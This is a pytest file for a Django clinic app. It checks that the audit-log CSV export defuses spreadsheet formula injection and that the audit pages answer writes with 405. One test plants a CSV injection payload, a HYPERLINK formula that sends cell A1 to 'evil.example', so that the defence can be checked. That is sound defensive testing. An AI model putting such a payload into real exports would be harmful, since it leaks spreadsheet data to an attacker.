"""Issue 10, the audit pages: the CSV export does not hand a spreadsheet a formula, and the read-only pages
refuse writes with a 405."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client as HttpClient
from django.urls import reverse

from kneadwell.accounts.roles import Role
from kneadwell.audit.services import Action, audit_record
from kneadwell.core.csvcells import defuse
from kwtest.people import Clinic

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_defused(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("value", ["Settled", "", 42, -3, None, "1-2"])
def test_other_values_are_left_alone(value: object) -> None:
    assert defuse(value) == value


def test_the_audit_csv_defuses_what_people_typed(client: HttpClient, clinic: Clinic) -> None:
    audit_record(
        actor=clinic.actor(Role.THERAPIST),
        action=Action.UPDATE,
        entity="note",
        entity_id="-1",
        summary='=HYPERLINK("http://evil.example/?"&A1,"Click")',
    )
    client.force_login(clinic.user(Role.ADMIN))
    response = client.get(reverse("audit:export"))
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(body)))
    row = next(r for r in rows if "HYPERLINK" in r["summary"])
    assert row["summary"].startswith("'=")
    assert row["entity_id"] == "'-1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values() if cell)


@pytest.mark.parametrize("name", ["audit:list", "audit:export"])
@pytest.mark.parametrize("method", ["post", "put", "delete", "patch"])
def test_the_audit_pages_refuse_writes(client: HttpClient, clinic: Clinic, name: str, method: str) -> None:
    client.force_login(clinic.user(Role.ADMIN))
    assert getattr(client, method)(reverse(name)).status_code == 405
    assert client.get(reverse(name)).status_code == 200
